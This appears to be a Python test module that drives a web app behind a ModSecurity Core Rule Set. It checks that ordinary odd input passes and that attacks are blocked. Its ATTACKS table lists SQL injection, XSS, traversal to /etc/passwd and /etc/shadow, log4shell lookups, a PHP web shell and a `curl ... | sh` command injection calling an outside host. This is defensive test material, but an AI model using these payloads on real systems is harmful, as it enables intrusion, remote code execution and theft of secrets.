"""The Core Rule Set in front of a service: requests of people and of attackers."""

import html
import json
import re
import secrets
import time
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, urlencode

from tests.support.clients import code_of
from tests.support.deployed import HOME
from tests.support.public_server import LOG, PublicServer, PublicVisitor
from tests.support.servers import eventually
from tests.support.visitor import ADDRESS, FORM, PASSWORD, Response

CRS_LOG = "/root/crs.log"

# What people write where they may write what they like.
OWN_WORDS = [
    "O'Brien & Sons <info>",
    "select the best from our menu; drop by at 5 -- Jo",
    "eleven-purple-tractors-sing",
    "' or 1=1 --",
    "Zoë 🦊🔑 “quoted” ‘x’",
    "100% sure: {x} ${y} $(z) `w`; ls -la | cat",
    "<b>bold</b> <script>alert(1)</script> <3 ;-)",
    "../../home C:\\Users\\jo /etc/passwd",
    "print(chr(34)); eval(1); system('id')",
    "where 1 and 2 = 3? insert into our update, delete from",
    '"; DROP TABLE students;--',
    "^&*()_+{}|:<>?~`-=[]\\;',./",
    "javascript:alert(1) ${jndi:ldap://x/a}",
]

ADDRESSES = ["o'neil@bulwark-tests.net", "jo+union.select@bulwark-tests.net"]

SECRET_FIELDS = {"password", "new_password", "code"}

FREE_FIELDS = {"name", "reason"}

# One of each kind that scanners try first.
ATTACKS = {
    "SQL injection": "/?id=1' UNION SELECT password FROM users--",
    "SQL injection, blind": "/?id=1' AND SLEEP(5)#",
    "SQL injection, a login": "/?user=admin'/**/or/**/'1'='1",
    "script": "/?q=<script>alert(document.cookie)</script>",
    "script in an image": "/?q=<img src=x onerror=alert(1)>",
    "script in a link": "/?q=<a href=javascript:alert(1)>x</a>",
    "file inclusion": "/?page=../../../../etc/passwd",
    "file inclusion, encoded": "/?page=..%2f..%2f..%2fetc%2fshadow",
    "remote file": "/?page=http://203.0.113.5/shell.txt?",
    "command": "/?host=127.0.0.1;cat /etc/passwd",
    "command, quoted": "/?host=$(curl http://203.0.113.5/x|sh)",
    "shellshock": "/?x=() { :;}; /bin/bash -c id",
    "PHP": "/?x=<?php system($_GET['c']); ?>",
    "PHP wrapper": "/?file=php://filter/convert.base64-encode/resource=index.php",
    "log4shell": "/?x=${jndi:ldap://203.0.113.5/a}",
    "log4shell, disguised": "/?x=${${lower:j}ndi:${lower:l}dap://203.0.113.5/a}",
    "Java": "/?x=java.lang.Runtime.getRuntime().exec('id')",
    "Node": "/?x=require('child_process').exec('id')",
    "response splitting": "/?x=%0d%0aSet-Cookie:%20a=b",
    "a hidden file": "/.git/config",
    "a backup": "/wp-config.php.bak",
}

SCANNERS = [
    "sqlmap/1.7",
    "Nikto/2.5",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
]


def put_before(server: PublicServer, mode: str) -> None:
    """Do as docs/intrusion.md says, with watch.conf or block.conf, or "" without."""
    rules = f"{HOME}/current/deploy/nginx/crs/{mode}.conf"
    lines = f"modsecurity on;\nmodsecurity_rules_file {rules};\n"
    lines += "error_page 403 /errors/400.html;\n"
    server.write(f"{HOME}/current/app/nginx/crs.conf", lines if mode else "")
    before = workers(server)
    done = server.deploy("nginx/apply")
    assert done.returncode == 0, done.stderr
    eventually(lambda: not before & workers(server))
    attacked = server.ask(f"/?mode={mode}&q=<script>alert(1)</script>")
    assert attacked.status == (403 if mode == "block" else 200)
    # nginx answers first and writes its log then.
    eventually(lambda: attacked.headers["X-Request-ID"] in server.path(LOG).read_text())


def workers(server: PublicServer) -> set[str]:
    return set(server.run("pgrep", "-f", "nginx: worker").split())


class Administrator(PublicVisitor):
    """Somebody who may open every page, from a new address now and then."""

    def __init__(self, server: PublicServer) -> None:
        super().__init__(server)
        self.sent = 0
        email = f"{secrets.token_hex(4)}@bulwark-tests.net"
        invite = ("accounts", "invite", email, "--role", "administrator")
        output = server.deploy("systemd/flask", *invite).stdout
        link = re.search(r"https://[^/]+(/\S+)", output)
        assert link, output
        assert self.submit(link[1], password=PASSWORD).status == 302
        assert self.submit("/login", email=email, password=PASSWORD).status == 302
        page = self.submit("/account/authenticator", setup="authenticator").body
        key = re.search(r'class="key">([^<]+)<', page)
        assert key
        code = code_of(key[1], time.time())
        assert self.submit("/login/code", code=code).status == 302
        assert self.ask("/admin/users").status == 200

    def ask(self, *request: Any, **headers: Any) -> Response:
        self.sent += 1
        if self.sent % 10 == 0:  # before nginx slows an address down
            self.connection.close()
            self.address = self.server.fresh_address()
        return super().ask(*request, **headers)

    def forms(self) -> dict[str, set[str]]:
        """Open all pages; return the forms on them, by where they are sent."""
        found: dict[str, set[str]] = {}
        seen, to_see = (
            set[str](),
            ["/", "/account", "/admin/users", "/login", "/register"],
        )
        while to_see:
            path = to_see.pop()
            if path in seen or "logout" in path:
                continue
            seen.add(path)
            page = self.ask(path)
            assert page.status in (200, 302), path
            links = re.findall(r'(?:href|src)="(/[^"#]*)', page.body)
            to_see += map(html.unescape, links)
            for form in re.findall(r"<form.*?</form>", page.body, re.DOTALL):
                action = re.search(r'action="([^"]+)"', form)
                names = re.findall(r' name="([^"]+)"', form)
                target = html.unescape(action[1]) if action else path
                found.setdefault(target, set()).update(names)
        assert len(seen) > 30
        return found


def drive(server: PublicServer) -> int:
    """Open every page and send every form as people may; return how many requests."""
    person = Administrator(server)
    for action, names in person.forms().items():
        for name in names & {"email", "q", *SECRET_FIELDS, *FREE_FIELDS}:
            for text in ADDRESSES if name in ("email", "q") else OWN_WORDS:
                fields = dict.fromkeys(names - {"csrf_token"}, "1") | {name: text}
                if "q" in names:
                    person.ask(f"{action}?{urlencode(fields)}")
                else:
                    person.submit(action, **fields)
    # What browsers answer for a passkey, addresses and cookies: any bytes, in base64.
    for _ in range(50):
        token = secrets.token_urlsafe(64)
        signed = {"clientDataJSON": token, "signature": secrets.token_urlsafe(200)}
        passkey = {
            "id": token,
            "rawId": token,
            "type": "public-key",
            "response": signed,
        }
        person.submit(f"/login/passkey/{token}", credential=json.dumps(passkey))
        person.ask(f"/reset/{token}", Cookie=f"__Host-session={token}")
    for text in OWN_WORDS:
        body = json.dumps({"email": ADDRESS, "password": text})
        person.ask("/login", "POST", body, Content_Type="application/json")
    return person.sent


def attack(server: PublicServer) -> Iterator[tuple[str, Response]]:
    """Yield each kind of attack, and its response."""
    attacker = PublicVisitor(server)
    for kind, target in ATTACKS.items():
        yield kind, attacker.ask(quote(target, safe="/?=&%:;'(){}*$."))
    for agent in SCANNERS:
        yield agent, attacker.ask("/", User_Agent=agent)
    for kind, target in ATTACKS.items():
        if "?" in target:
            body = urlencode({"comment": target.partition("=")[2]})
            yield (
                f"{kind}, in a form",
                attacker.ask("/", "POST", body, Content_Type=FORM),
            )
